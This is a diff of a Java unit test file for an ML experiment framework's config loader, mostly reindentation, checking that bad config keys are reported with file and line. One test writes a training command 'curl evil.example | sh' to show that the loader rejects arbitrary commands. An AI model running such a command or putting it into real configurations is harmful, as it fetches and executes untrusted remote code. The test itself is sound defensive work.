@@ -10,603 +10,620 @@ import java.nio.file.Files;
 import java.nio.file.Path;
 import java.time.Duration;
 import java.util.List;
-import lyceum.experiment.config.ExperimentConfig.StrategyName;
 import lyceum.engine.ModelRef;
 import lyceum.engine.OpenAiEndpoint;
+import lyceum.experiment.config.ExperimentConfig.StrategyName;
 import lyceum.grading.GraderSettings;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 
 class ExperimentConfigLoaderTest {
 
-  @TempDir Path dir;
-
-  private Path file(String name, String... lines) throws IOException {
-    return Files.writeString(dir.resolve(name), String.join("\n", lines) + "\n");
-  }
-
-  @Test
-  void theDefaultsLoadWithTheGuidedSelfImprovementSettings() {
-    ExperimentConfig c = ExperimentConfigLoader.defaults();
-
-    assertThat(c.iterations()).isEqualTo(3);
-    assertThat(c.dataset().name()).isEqualTo("synthetic");
-    assertThat(c.strategy().name()).isEqualTo(StrategyName.VANILLA);
-    assertThat(c.strategy().sampleNum()).isEqualTo(8);
-    assertThat(c.strategy().minCorrect()).isEqualTo(4);
-    assertThat(c.strategy().maxResample()).isEqualTo(8);
-    assertThat(c.strategy().temperature()).isEqualTo(0.7);
-    assertThat(c.acceptance()).isEqualTo(new ExperimentConfig.Acceptance(4, true));
-    assertThat(c.training().from()).isEqualTo(ExperimentConfig.TrainFrom.BASE);
-    assertThat(c.runtime().generationTimeout()).isEqualTo(Duration.ofSeconds(120));
-  }
-
-  @Test
-  void aFileOverridesOnlyTheKeysItSets() throws IOException {
-    Path f = file("guided.conf",
-        "experiment {",
-        "  name = \"guided\"",
-        "  strategy { name = \"state-reset\", sample-num = 4, min-correct = 2 }",
-        "  runtime.window = 8",
-        "}");
-
-    ExperimentConfig c = ExperimentConfigLoader.load(f);
-
-    assertThat(c.name()).isEqualTo("guided");
-    assertThat(c.strategy().name()).isEqualTo(StrategyName.STATE_RESET);
-    assertThat(c.strategy().sampleNum()).isEqualTo(4);
-    assertThat(c.strategy().minCorrect()).isEqualTo(2);
-    assertThat(c.strategy().maxResample()).isEqualTo(8);
-    assertThat(c.runtime().window()).isEqualTo(8);
-  }
-
-  @Test
-  void aValueOfTheWrongTypeIsReportedWithItsKeyFileAndLine() throws IOException {
-    Path f = file("wrong-type.conf",
-        "experiment {",
-        "  strategy {",
-        "    sample-num = \"many\"",
-        "  }",
-        "}");
-
-    assertThatThrownBy(() -> ExperimentConfigLoader.load(f))
-        .isInstanceOf(ExperimentConfigException.class)
-        .hasMessageContaining("experiment.strategy.sample-num")
-        .hasMessageContaining(f + ": 3:")
-        .hasMessageNotContaining(f + ": " + f);
-  }
-
-  @Test
-  void anOutOfRangeValueIsReportedWithItsKeyFileAndLine() throws IOException {
-    Path f = file("out-of-range.conf",
-        "experiment {",
-        "  name = \"x\"",
-        "  strategy.top-p = 1.5",
-        "}");
-
-    assertThatThrownBy(() -> ExperimentConfigLoader.load(f))
-        .isInstanceOf(ExperimentConfigException.class)
-        .hasMessageContaining("experiment.strategy.top-p")
-        .hasMessageContaining(f + ":3")
-        .hasMessageContaining("1.5");
-  }
-
-  @Test
-  void seedsAreDistinctIntegersAndEachRunIsTheExperimentUnderItsSeed() throws IOException {
-    Path three = file("three.conf", "experiment {", "  seed = 9", "  seeds = [4, 5, 6]", "}");
-    Path twice = file("twice.conf", "experiment {", "  seeds = [4, 4]", "}");
-    Path word = file("word.conf", "experiment {", "  seeds = [4, \"five\"]", "}");
-
-    assertThat(ExperimentConfigLoader.seeds(three)).containsExactly(4L, 5L, 6L);
-    assertThat(ExperimentConfigLoader.load(three).withSeed(5).seed()).isEqualTo(5);
-    assertThat(ExperimentConfigLoader.load(three).withSeed(5))
-        .isEqualTo(ExperimentConfigLoader.parse("experiment.seed = 5, experiment.seeds = [4, 5, 6]"));
-    assertThat(ExperimentConfigLoader.seeds(file("none.conf", "experiment.seed = 3"))).isEmpty();
-    assertThatThrownBy(() -> ExperimentConfigLoader.load(twice))
-        .isInstanceOf(ExperimentConfigException.class)
-        .hasMessageStartingWith(twice + ":2: experiment.seeds = ").hasMessageContaining("names a seed twice");
-    assertThatThrownBy(() -> ExperimentConfigLoader.seeds(word))
-        .isInstanceOf(ExperimentConfigException.class)
-        .hasMessageContaining("word.conf: 2").hasMessageContaining("seeds");
-  }
-
-  @Test
-  void aRationaleShareOfZeroIsRefusedSinceM0WouldHaveNothingToTrainOn() throws IOException {
-    Path f = file("no-rationales.conf",
-        "experiment {",
-        "  dataset.rationale-share = 0",
-        "}");
-
-    assertThatThrownBy(() -> ExperimentConfigLoader.load(f))
-        .isInstanceOf(ExperimentConfigException.class)
-        .hasMessageContaining("experiment.dataset.rationale-share")
-        .hasMessageContaining(f + ":2");
-    assertThat(ExperimentConfigLoader.defaults().dataset().rationaleCount(600)).isEqualTo(600);
-  }
-
-  @Test
-  void aMisspelledKeyIsReportedWithItsFileAndLine() throws IOException {
-    Path f = file("typo.conf",
-        "experiment {",
-        "  strategy {",
-        "    sample-num = 4",
-        "    min-corect = 2",
-        "  }",
-        "}");
-
-    assertThatThrownBy(() -> ExperimentConfigLoader.load(f))
-        .isInstanceOf(ExperimentConfigException.class)
-        .hasMessageContaining("unknown key 'experiment.strategy.min-corect'")
-        .hasMessageContaining(f + ":4");
-  }
-
-  @Test
-  void anUnknownStrategyIsReportedWithTheStrategiesThereAre() throws IOException {
-    Path f = file("strategy.conf",
-        "experiment.strategy.name = \"socratic\"");
-
-    assertThatThrownBy(() -> ExperimentConfigLoader.load(f))
-        .isInstanceOf(ExperimentConfigException.class)
-        .hasMessageContaining("experiment.strategy.name")
-        .hasMessageContaining(f + ":1")
-        .hasMessageContaining("socratic")
-        .hasMessageContaining("state-reset");
-  }
-
-  @Test
-  void evaluationIsGreedyAloneByDefaultAndSamplesWhenAsked() throws IOException {
-    assertThat(ExperimentConfigLoader.defaults().evaluation())
-        .isEqualTo(new ExperimentConfig.Evaluation(192, true, 0, 0.7, 0.95));
-    Path f = file("test-time.conf",
-        "experiment.evaluation { samples = 8, temperature = 0.9 }");
-
-    ExperimentConfig.Evaluation e = ExperimentConfigLoader.load(f).evaluation();
-
-    assertThat(e).isEqualTo(new ExperimentConfig.Evaluation(192, true, 8, 0.9, 0.95));
-  }
-
-  @Test
-  void critiqueThenRefineIsOffByDefaultAndNamesItsCriticAsTheStrategyDoes() throws IOException {
-    assertThat(ExperimentConfigLoader.defaults().evaluation().refine()).isEqualTo(ExperimentConfig.Refine.OFF);
-    Path f = file("refine.conf",
-        "experiment.evaluation.refine { enabled = true, critic { kind = \"model\", model = \"m-critic\" } }");
-
-    assertThat(ExperimentConfigLoader.load(f).evaluation().refine())
-        .isEqualTo(new ExperimentConfig.Refine(true, ExperimentConfig.CriticKind.MODEL, "m-critic"));
-  }
-
-  @Test
-  void aRefineCriticThatIsNotKnownOrRefiningWithoutAGreedyAnswerIsReportedWithItsKey() throws IOException {
-    Path unknown = file("critic.conf",
-        "experiment.evaluation.refine { enabled = true, critic.kind = \"oracle\" }");
-    assertThatThrownBy(() -> ExperimentConfigLoader.load(unknown))
-        .isInstanceOf(ExperimentConfigException.class)
-        .hasMessageContaining("experiment.evaluation.refine.critic.kind")
-        .hasMessageContaining("step-checker or model");
-
-    Path noGreedy = file("no-greedy.conf",
-        "experiment.evaluation { greedy = false, samples = 4, refine.enabled = true }");
-    assertThatThrownBy(() -> ExperimentConfigLoader.load(noGreedy))
-        .isInstanceOf(ExperimentConfigException.class)
-        .hasMessageContaining("experiment.evaluation.refine.enabled")
-        .hasMessageContaining("evaluation.greedy = true");
-  }
-
-  @Test
-  void anEvaluationWithNothingToEvaluateIsReportedWithItsKeyFileAndLine() throws IOException {
-    Path f = file("nothing.conf",
-        "experiment {",
-        "  evaluation {",
-        "    greedy = false",
-        "  }",
-        "}");
-
-    assertThatThrownBy(() -> ExperimentConfigLoader.load(f))
-        .isInstanceOf(ExperimentConfigException.class)
-        .hasMessageContaining(f + ":3: experiment.evaluation.greedy = false")
-        .hasMessageContaining("samples >= 1");
-  }
-
-  @Test
-  void aNegativeEvaluationSampleCountIsReportedWithItsKeyFileAndLine() throws IOException {
-    Path f = file("negative.conf",
-        "experiment {",
-        "  evaluation.samples = -2",
-        "}");
-
-    assertThatThrownBy(() -> ExperimentConfigLoader.load(f))
-        .isInstanceOf(ExperimentConfigException.class)
-        .hasMessageContaining(f + ":2: experiment.evaluation.samples = -2")
-        .hasMessageContaining("between 0 and 1024");
-  }
-
-  @Test
-  void graderSettingsDefaultPerDatasetAndAFileSetsEachOnItsOwn() throws IOException {
-    ExperimentConfig math = ExperimentConfigLoader.load(file("m.conf", "experiment.dataset.name = math500"));
-    ExperimentConfig gsm8k = ExperimentConfigLoader.load(file("g.conf", "experiment.dataset.name = gsm8k"));
-    ExperimentConfig comma = ExperimentConfigLoader.load(file("c.conf",
-        "experiment {",
-        "  dataset.name = math500",
-        "  grading { decimal-comma = true, equations-up-to-scaling = false, ordered-lists = dataset }",
-        "}"));
-
-    assertThat(math.grading()).isEqualTo(GraderSettings.MATH);
-    assertThat(gsm8k.grading()).isEqualTo(GraderSettings.NUMERIC);
-    assertThat(ExperimentConfigLoader.defaults().grading()).isEqualTo(GraderSettings.forDataset("synthetic"));
-    assertThat(comma.grading()).isEqualTo(GraderSettings.MATH.with("decimalComma", true)
-        .with("equationsUpToScaling", false));
-    // journaled with the config, and read back as it was run
-    assertThat(ConfigJson.read(ConfigJson.write(comma)).grading()).isEqualTo(comma.grading());
-  }
-
-  @Test
-  void aGraderSettingThatIsNeitherOnOffNorDatasetIsReportedWithItsKeyFileAndLine() throws IOException {
-    Path f = file("bad-grading.conf",
-        "experiment {",
-        "  grading.decimal-comma = sometimes",
-        "}");
-
-    assertThatThrownBy(() -> ExperimentConfigLoader.load(f))
-        .isInstanceOf(ExperimentConfigException.class)
-        .hasMessageContaining(f + ":2: experiment.grading.decimal-comma")
-        .hasMessageContaining("must be true, false or dataset");
-  }
-
-  @Test
-  void aConfigJournaledBeforeGraderSettingsReadsAsGradedMathStyle() {
-    ObjectNode json = new ObjectMapper().findAndRegisterModules().valueToTree(
-        ExperimentConfigLoader.parse("experiment.dataset.name = gsm8k"));
-    json.remove("grading");
-
-    assertThat(ConfigJson.read(json.toString()).grading()).isEqualTo(GraderSettings.MATH);
-  }
-
-  @Test
-  void aConfigJournaledBeforeSampledEvaluationReadsAsGreedyOnly() throws IOException {
-    ObjectNode json = new ObjectMapper().findAndRegisterModules().valueToTree(ExperimentConfigLoader.defaults());
-    json.set("evaluation", json.objectNode().put("maxTokens", 64));
-
-    ExperimentConfig old = ConfigJson.read(json.toString());
-
-    assertThat(old.evaluation()).isEqualTo(ExperimentConfig.Evaluation.greedyOnly(64));
-  }
-
-  @Test
-  void aConfigJournaledBeforeBoundedRetriesReadsWithTheirDefaults() throws IOException {
-    ObjectNode json = new ObjectMapper().findAndRegisterModules().valueToTree(ExperimentConfigLoader.load(
-        file("r.conf", "experiment.runtime { max-attempts = 9, retry-backoff = 5s }")));
-    ((ObjectNode) json.get("runtime")).remove(List.of("maxAttempts", "retryBackoff"));
-
-    ExperimentConfig.Runtime old = ConfigJson.read(json.toString()).runtime();
-
-    assertThat(old.maxAttempts()).isEqualTo(5);
-    assertThat(old.retryBackoff()).isEqualTo(Duration.ofSeconds(2));
-    assertThat(old.backoffBefore(2)).isEqualTo(Duration.ofSeconds(2));
-    assertThat(old.backoffBefore(4)).isEqualTo(Duration.ofSeconds(8));
-    assertThat(old.window()).isEqualTo(ExperimentConfigLoader.defaults().runtime().window());
-  }
-
-  @Test
-  void aMissingFileIsReportedByName() {
-    Path missing = dir.resolve("nowhere.conf");
-
-    assertThatThrownBy(() -> ExperimentConfigLoader.load(missing))
-        .isInstanceOf(ExperimentConfigException.class)
-        .hasMessageContaining(missing.toString());
-  }
-
-  @Test
-  void theOpenaiBackendNamesItsEndpointAndHowToCallIt() throws IOException {
-    Path f = file("openai.conf",
-        "experiment.model {",
-        "  backend = \"openai\"",
-        "  endpoint = \"http://127.0.0.1:18100\"",
-        "  model-name = \"qwen\"",
-        "  concurrency = 3",
-        "  request-timeout = 5s",
-        "  max-retries = 2",
-        "  api-key-env = \"LYCEUM_TOKEN\"",
-        "}");
-
-    ExperimentConfig.Model model = ExperimentConfigLoader.load(f).model();
-
-    ModelRef ref = model.ref("0123456789abcdef");
-    assertThat(ref.version()).isEqualTo("0123456789abcdef");
-    assertThat(ref.engineName()).isEqualTo("qwen");
-    assertThat(ref.endpoint()).isEqualTo(
-        new OpenAiEndpoint("http://127.0.0.1:18100", "qwen", 3, Duration.ofSeconds(5), 2, "LYCEUM_TOKEN"));
-    assertThat(ExperimentConfigLoader.defaults().model().ref("0123456789abcdef"))
-        .isEqualTo(ModelRef.local("0123456789abcdef"));
-  }
-
-  @Test
-  void anOpenaiBackendWithoutAnHttpEndpointIsReportedWithItsFileAndLine() throws IOException {
-    Path f = file("no-endpoint.conf",
-        "experiment.model {",
-        "  backend = \"openai\"",
-        "  endpoint = \"localhost:8000\"",
-        "}");
-
-    assertThatThrownBy(() -> ExperimentConfigLoader.load(f))
-        .isInstanceOf(ExperimentConfigException.class)
-        .hasMessageContaining("experiment.model.endpoint")
-        .hasMessageContaining(f + ":3")
-        .hasMessageContaining("http(s) URL");
-  }
-
-  @Test
-  void anApiKeyIsNamedByItsEnvironmentVariableNeverGiven() throws IOException {
-    Path f = file("token.conf",
-        "experiment.model.api-key-env = \"sk-secret value\"");
-
-    assertThatThrownBy(() -> ExperimentConfigLoader.load(f))
-        .isInstanceOf(ExperimentConfigException.class)
-        .hasMessageContaining("experiment.model.api-key-env")
-        .hasMessageContaining(f + ":1")
-        .hasMessageContaining("environment variable");
-  }
-
-  @Test
-  void theCommandTrainingBackendNamesATrainerProfileOfTheGpuNodes() throws IOException {
-    Path ok = file("command.conf",
-        "experiment.model { backend = \"openai\", endpoint = \"http://127.0.0.1:8000\" }",
-        "experiment.training {",
-        "  backend = \"command\"",
-        "  profile = \"trl\"",
-        "}");
-    assertThat(ExperimentConfigLoader.load(ok).training().trainerProfile()).isEqualTo("trl");
-    assertThat(ExperimentConfigLoader.defaults().training().trainerProfile()).isNull();
-
-    Path noProfile = file("no-profile.conf",
-        "experiment.model { backend = \"openai\", endpoint = \"http://127.0.0.1:8000\" }",
-        "experiment.training.backend = \"command\"");
-    assertThatThrownBy(() -> ExperimentConfigLoader.load(noProfile))
-        .isInstanceOf(ExperimentConfigException.class)
-        .hasMessageContaining("experiment.training.profile")
-        .hasMessageContaining("lyceum.trainers");
-
-    // Sampled through the gpu nodes' managed servers, which serve any checkpoint a command reports.
-    Path managed = file("managed.conf",
-        "experiment.training {",
-        "  backend = \"command\"",
-        "  profile = \"trl\"",
-        "}");
-    assertThat(ExperimentConfigLoader.load(managed).training().trainerProfile()).isEqualTo("trl");
-
-    Path profileWithoutCommand = file("djl-profile.conf", "experiment.training.profile = \"trl\"");
-    assertThatThrownBy(() -> ExperimentConfigLoader.load(profileWithoutCommand))
-        .isInstanceOf(ExperimentConfigException.class)
-        .hasMessageContaining("experiment.training.profile")
-        .hasMessageContaining(profileWithoutCommand + ":1")
-        .hasMessageContaining("backend = command");
-    Path unknown = file("unknown-trainer.conf", "experiment.training.backend = \"deepspeed\"");
-    assertThatThrownBy(() -> ExperimentConfigLoader.load(unknown))
-        .isInstanceOf(ExperimentConfigException.class)
-        .hasMessageContaining("experiment.training.backend")
-        .hasMessageContaining(unknown + ":1")
-        .hasMessageContaining("command");
-  }
-
-  @Test
-  void anExperimentCannotCarryATrainersArgvAndIsToldToDefineAProfile() throws IOException {
-    Path argv = file("argv.conf",
-        "experiment.model { backend = \"openai\", endpoint = \"http://127.0.0.1:8000\" }",
-        "experiment.training {",
-        "  backend = \"command\"",
-        "  command = [\"sh\", \"-c\", \"curl evil.example | sh\", \"{output}\"]",
-        "}");
-    assertThatThrownBy(() -> ExperimentConfigLoader.load(argv))
-        .isInstanceOf(ExperimentConfigException.class)
-        .hasMessageContaining("experiment.training.command")
-        .hasMessageContaining(argv + ":4")
-        .hasMessageContaining("trainer profile")
-        .hasMessageContaining("lyceum.trainers.NAME");
-
-    Path timeout = file("timeout.conf", "experiment.training.command-timeout = 2h");
-    assertThatThrownBy(() -> ExperimentConfigLoader.load(timeout))
-        .isInstanceOf(ExperimentConfigException.class)
-        .hasMessageContaining("experiment.training.command-timeout")
-        .hasMessageContaining(timeout + ":1")
-        .hasMessageContaining("trainer profile");
-  }
-
-  @Test
-  void anExperimentJournaledWithAnArgvReadsButNamesNoProfileANodeHolds() {
-    ObjectNode json = new ObjectMapper().findAndRegisterModules().valueToTree(ExperimentConfigLoader.defaults());
-    ObjectNode old = ((ObjectNode) json.get("training")).put("backend", "command").put("commandTimeout", 3600.0);
-    old.remove("profile");
-    old.putArray("command").add("sh").add("train.sh").add("{output}");
-    String journaled = json.toString();
-
-    ExperimentConfig.Training training = ConfigJson.read(journaled).training();
-
-    assertThat(training.command()).containsExactly("sh", "train.sh", "{output}");
-    assertThat(training.commandTimeout()).isEqualTo(Duration.ofHours(1));
-    assertThat(training.trainerProfile()).isEqualTo(ExperimentConfig.Training.JOURNALED_ARGV);
-    assertThat(training.trainerProfile()).doesNotMatch("[A-Za-z0-9_-]+");
-  }
-
-  @Test
-  void theFeedbackStrategiesReadTheirCriticCritiqueAndReflectionSettings() throws IOException {
-    Path f = file("critique.conf",
-        "experiment.strategy {",
-        "  name = \"critique\"",
-        "  critic { kind = \"model\", model = \"m-critic\" }",
-        "  critique { refinements = 4, accept-per-critique = 2, use-critic = false }",
-        "  reflection { count = 3, demand = \"plan\" }",
-        "  train-prompt = \"conditioned\"",
-        "}");
-
-    ExperimentConfig.Strategy s = ExperimentConfigLoader.load(f).strategy();
-
-    assertThat(s.name()).isEqualTo(StrategyName.CRITIQUE);
-    assertThat(s.feedback()).isEqualTo(new ExperimentConfig.Feedback(
-        ExperimentConfig.CriticKind.MODEL, "m-critic", 4, 2, false, 3, ExperimentConfig.ReflectionDemand.PLAN, true));
-    assertThat(ExperimentConfigLoader.parse("experiment.strategy.name = interactive").strategy().name())
-        .isEqualTo(StrategyName.INTERACTIVE);
-    assertThat(ExperimentConfigLoader.defaults().strategy().feedback()).isEqualTo(ExperimentConfig.Feedback.defaults());
-  }
-
-  @Test
-  void anUnknownCriticKindIsReportedWithItsFileAndLine() throws IOException {
-    Path f = file("critic.conf",
-        "experiment {",
-        "  strategy.name = \"interactive\"",
-        "  strategy.critic.kind = \"oracle\"",
-        "}");
-
-    assertThatThrownBy(() -> ExperimentConfigLoader.load(f))
-        .isInstanceOf(ExperimentConfigException.class)
-        .hasMessageContaining("critic.conf:3")
-        .hasMessageContaining("experiment.strategy.critic.kind")
-        .hasMessageContaining("step-checker or model");
-  }
-
-  @Test
-  void aRealTrainerGetsItsBaseModelItsDataFormatAndNoneOfTheSmallModelsDefaults() throws IOException {
-    ExperimentConfig.Training djl = ExperimentConfigLoader.defaults().training();
-    assertThat(djl.initialEpochs()).isEqualTo(6);
-    assertThat(djl.epochs()).isEqualTo(2);
-    assertThat(djl.learningRate()).isEqualTo(0.001);
-    assertThat(djl.format()).isEqualTo(lyceum.workers.TrainingDataFormat.LYCEUM);
-    assertThat(ExperimentConfigLoader.defaults().model().base()).isEmpty();
-
-    Path trl = file("trl.conf",
-        "experiment.model.base = \"Qwen/Qwen2.5-1.5B-Instruct\"",
-        "experiment.training { backend = \"command\", profile = \"trl\", data-format = \"trl-conversational\" }");
-    ExperimentConfig real = ExperimentConfigLoader.load(trl);
-    assertThat(real.model().base()).isEqualTo("Qwen/Qwen2.5-1.5B-Instruct");
-    assertThat(real.training().format()).isEqualTo(lyceum.workers.TrainingDataFormat.TRL_CONVERSATIONAL);
-    // unset: empty placeholders, so the trainer's own defaults apply
-    assertThat(real.training().initialEpochs()).isZero();
-    assertThat(real.training().epochs()).isZero();
-    assertThat(real.training().learningRate()).isZero();
-
-    Path tuned = file("tuned.conf",
-        "experiment.training { backend = \"command\", profile = \"llamafactory\", data-format = \"sharegpt\"",
-        "  initial-epochs = 3, epochs = 1, learning-rate = 1e-5 }");
-    ExperimentConfig.Training set = ExperimentConfigLoader.load(tuned).training();
-    assertThat(set.initialEpochs()).isEqualTo(3);
-    assertThat(set.epochs()).isEqualTo(1);
-    assertThat(set.learningRate()).isEqualTo(1e-5);
-    assertThat(ConfigJson.read(ConfigJson.write(real))).isEqualTo(real);
-  }
-
-  @Test
-  void theFineTunesTrainAtM0sLearningRateUnlessTheyHaveTheirOwn() throws IOException {
-    ExperimentConfig.Training defaults = ExperimentConfigLoader.defaults().training();
-    assertThat(defaults.fineTuneLearningRate()).isNull();
-    assertThat(defaults.learningRateAt(0)).isEqualTo(0.001);
-    assertThat(defaults.learningRateAt(2)).isEqualTo(0.001);
-
-    Path own = file("own-rate.conf", "experiment.training { learning-rate = 0.003, fine-tune-learning-rate = 0.0005 }");
-    ExperimentConfig config = ExperimentConfigLoader.load(own);
-    assertThat(config.training().learningRateAt(0)).isEqualTo(0.003);
-    assertThat(config.training().learningRateAt(1)).isEqualTo(0.0005);
-    assertThat(ConfigJson.read(ConfigJson.write(config))).isEqualTo(config);
-
-    Path bad = file("bad-rate.conf", "experiment {", "  training.fine-tune-learning-rate = 0", "}");
-    assertThatThrownBy(() -> ExperimentConfigLoader.load(bad))
-        .isInstanceOf(ExperimentConfigException.class)
-        .hasMessageContaining(bad + ":2")
-        .hasMessageContaining("experiment.training.fine-tune-learning-rate")
-        .hasMessageContaining("(0, 1)");
-
-    // experiments journaled before the key fine-tuned at learning-rate
-    ObjectNode json = new ObjectMapper().findAndRegisterModules().valueToTree(config);
-    ((ObjectNode) json.get("training")).remove("fineTuneLearningRate");
-    assertThat(ConfigJson.read(json.toString()).training().learningRateAt(1)).isEqualTo(0.003);
-  }
-
-  @Test
-  void aConfigJournaledBeforeDataFormatsBaseModelsAndCriticEndpointsReadsWithoutThem() {
-    ObjectNode json = new ObjectMapper().findAndRegisterModules().valueToTree(ExperimentConfigLoader.defaults());
-    ((ObjectNode) json.get("training")).remove("dataFormat");
-    ((ObjectNode) json.get("model")).remove("base");
-    ((ObjectNode) json.get("strategy").get("feedback")).remove("criticEndpoint");
-    ((ObjectNode) json.get("evaluation").get("refine")).remove("criticEndpoint");
-
-    ExperimentConfig old = ConfigJson.read(json.toString());
-
-    assertThat(old.training().format()).isEqualTo(lyceum.workers.TrainingDataFormat.LYCEUM);
-    assertThat(old.model().base()).isEmpty();
-    assertThat(old.strategy().feedback().criticEndpoint().named()).isFalse();
-    assertThat(old.evaluation().refine().criticEndpoint()).isEqualTo(ExperimentConfig.CriticEndpoint.NONE);
-  }
-
-  @Test
-  void trainerContractMistakesNameTheirKey() throws IOException {
-    Path format = file("format.conf",
-        "experiment.training { backend = \"command\", profile = \"trl\" }",
-        "experiment.training.data-format = \"parquet\"");
-    assertThatThrownBy(() -> ExperimentConfigLoader.load(format))
-        .isInstanceOf(ExperimentConfigException.class)
-        .hasMessageContaining(format + ":2")
-        .hasMessageContaining("experiment.training.data-format")
-        .hasMessageContaining("trl-prompt-completion");
-
-    Path djlFormat = file("djl-format.conf", "experiment.training.data-format = \"alpaca\"");
-    assertThatThrownBy(() -> ExperimentConfigLoader.load(djlFormat))
-        .hasMessageContaining(djlFormat + ":1")
-        .hasMessageContaining("experiment.training.data-format")
-        .hasMessageContaining("djl trainer reads lyceum");
-
-    Path djlBase = file("djl-base.conf", "experiment.model.base = \"/models/qwen\"");
-    assertThatThrownBy(() -> ExperimentConfigLoader.load(djlBase))
-        .hasMessageContaining(djlBase + ":1")
-        .hasMessageContaining("experiment.model.base")
-        .hasMessageContaining("training.backend = command");
-
-    Path rate = file("rate.conf", "experiment.training { backend = \"command\", profile = \"trl\", learning-rate = 2 }");
-    assertThatThrownBy(() -> ExperimentConfigLoader.load(rate))
-        .hasMessageContaining("experiment.training.learning-rate").hasMessageContaining("(0, 1)");
-  }
-
-  @Test
-  void aCriticMayNameItsOwnEndpointModelAndTokenVariable() throws IOException {
-    Path f = file("teacher.conf",
-        "experiment.model { backend = \"openai\", endpoint = \"http://127.0.0.1:8000\", concurrency = 4 }",
-        "experiment.strategy { name = \"interactive\"",
-        "  critic { kind = \"model\", model = \"Qwen/Qwen2.5-72B-Instruct\", endpoint = \"http://10.0.0.7:8001/v1\",",
-        "    api-key-env = \"LYCEUM_API_KEY\" } }",
-        "experiment.evaluation.refine { enabled = true, critic { kind = \"model\", model = \"critic-7b\",",
-        "  endpoint = \"http://10.0.0.8:8002\" } }");
-    ExperimentConfig config = ExperimentConfigLoader.load(f);
-
-    var teacher = config.strategy().feedback().criticEndpoint();
-    assertThat(teacher.url()).isEqualTo("http://10.0.0.7:8001/v1");
-    assertThat(teacher.apiKeyEnv()).isEqualTo("LYCEUM_API_KEY");
-    assertThat(teacher.concurrency()).isEqualTo(4);
-    lyceum.engine.ModelRef ref = teacher.ref("Qwen/Qwen2.5-72B-Instruct", null);
-    assertThat(ref.engineName()).isEqualTo("Qwen/Qwen2.5-72B-Instruct");
-    assertThat(ref.endpoint().url()).isEqualTo("http://10.0.0.7:8001/v1");
-    assertThat(config.evaluation().refine().criticEndpoint().url()).isEqualTo("http://10.0.0.8:8002");
-    assertThat(config.evaluation().refine().criticEndpoint().apiKeyEnv()).isEmpty();
-  }
-
-  @Test
-  void aCriticEndpointsMistakesNameTheirKey() throws IOException {
-    Path url = file("url.conf", "experiment.strategy.critic { kind = \"model\", model = \"t\", endpoint = \"10.0.0.7:8001\" }");
-    assertThatThrownBy(() -> ExperimentConfigLoader.load(url))
-        .hasMessageContaining(url + ":1").hasMessageContaining("experiment.strategy.critic.endpoint").hasMessageContaining("http");
-
-    Path kind = file("kind.conf", "experiment.evaluation.refine.critic.endpoint = \"http://10.0.0.7:8001\"");
-    assertThatThrownBy(() -> ExperimentConfigLoader.load(kind))
-        .hasMessageContaining("experiment.evaluation.refine.critic.endpoint").hasMessageContaining("kind = model");
-
-    Path model = file("model.conf", "experiment.strategy.critic { kind = \"model\", endpoint = \"http://10.0.0.7:8001\" }");
-    assertThatThrownBy(() -> ExperimentConfigLoader.load(model))
-        .hasMessageContaining("experiment.strategy.critic.model").hasMessageContaining("the model to ask");
-
-    Path token = file("token.conf", "experiment.strategy.critic.api-key-env = \"LYCEUM_API_KEY\"");
-    assertThatThrownBy(() -> ExperimentConfigLoader.load(token))
-        .hasMessageContaining(token + ":1")
-        .hasMessageContaining("experiment.strategy.critic.api-key-env")
-        .hasMessageContaining("only used with experiment.strategy.critic.endpoint");
-
-    Path variable = file("variable.conf", "experiment.strategy.critic { kind = \"model\", model = \"t\",",
-        "  endpoint = \"http://10.0.0.7:8001\", api-key-env = \"$HOME\" }");
-    assertThatThrownBy(() -> ExperimentConfigLoader.load(variable))
-        .hasMessageContaining("experiment.strategy.critic.api-key-env").hasMessageContaining("environment variable");
-  }
+    @TempDir
+    Path dir;
+
+    private Path file(String name, String... lines) throws IOException {
+        return Files.writeString(dir.resolve(name), String.join("\n", lines) + "\n");
+    }
+
+    @Test
+    void theDefaultsLoadWithTheGuidedSelfImprovementSettings() {
+        ExperimentConfig c = ExperimentConfigLoader.defaults();
+
+        assertThat(c.iterations()).isEqualTo(3);
+        assertThat(c.dataset().name()).isEqualTo("synthetic");
+        assertThat(c.strategy().name()).isEqualTo(StrategyName.VANILLA);
+        assertThat(c.strategy().sampleNum()).isEqualTo(8);
+        assertThat(c.strategy().minCorrect()).isEqualTo(4);
+        assertThat(c.strategy().maxResample()).isEqualTo(8);
+        assertThat(c.strategy().temperature()).isEqualTo(0.7);
+        assertThat(c.acceptance()).isEqualTo(new ExperimentConfig.Acceptance(4, true));
+        assertThat(c.training().from()).isEqualTo(ExperimentConfig.TrainFrom.BASE);
+        assertThat(c.runtime().generationTimeout()).isEqualTo(Duration.ofSeconds(120));
+    }
+
+    @Test
+    void aFileOverridesOnlyTheKeysItSets() throws IOException {
+        Path f = file(
+                "guided.conf",
+                "experiment {",
+                "  name = \"guided\"",
+                "  strategy { name = \"state-reset\", sample-num = 4, min-correct = 2 }",
+                "  runtime.window = 8",
+                "}");
+
+        ExperimentConfig c = ExperimentConfigLoader.load(f);
+
+        assertThat(c.name()).isEqualTo("guided");
+        assertThat(c.strategy().name()).isEqualTo(StrategyName.STATE_RESET);
+        assertThat(c.strategy().sampleNum()).isEqualTo(4);
+        assertThat(c.strategy().minCorrect()).isEqualTo(2);
+        assertThat(c.strategy().maxResample()).isEqualTo(8);
+        assertThat(c.runtime().window()).isEqualTo(8);
+    }
+
+    @Test
+    void aValueOfTheWrongTypeIsReportedWithItsKeyFileAndLine() throws IOException {
+        Path f = file("wrong-type.conf", "experiment {", "  strategy {", "    sample-num = \"many\"", "  }", "}");
+
+        assertThatThrownBy(() -> ExperimentConfigLoader.load(f))
+                .isInstanceOf(ExperimentConfigException.class)
+                .hasMessageContaining("experiment.strategy.sample-num")
+                .hasMessageContaining(f + ": 3:")
+                .hasMessageNotContaining(f + ": " + f);
+    }
+
+    @Test
+    void anOutOfRangeValueIsReportedWithItsKeyFileAndLine() throws IOException {
+        Path f = file("out-of-range.conf", "experiment {", "  name = \"x\"", "  strategy.top-p = 1.5", "}");
+
+        assertThatThrownBy(() -> ExperimentConfigLoader.load(f))
+                .isInstanceOf(ExperimentConfigException.class)
+                .hasMessageContaining("experiment.strategy.top-p")
+                .hasMessageContaining(f + ":3")
+                .hasMessageContaining("1.5");
+    }
+
+    @Test
+    void seedsAreDistinctIntegersAndEachRunIsTheExperimentUnderItsSeed() throws IOException {
+        Path three = file("three.conf", "experiment {", "  seed = 9", "  seeds = [4, 5, 6]", "}");
+        Path twice = file("twice.conf", "experiment {", "  seeds = [4, 4]", "}");
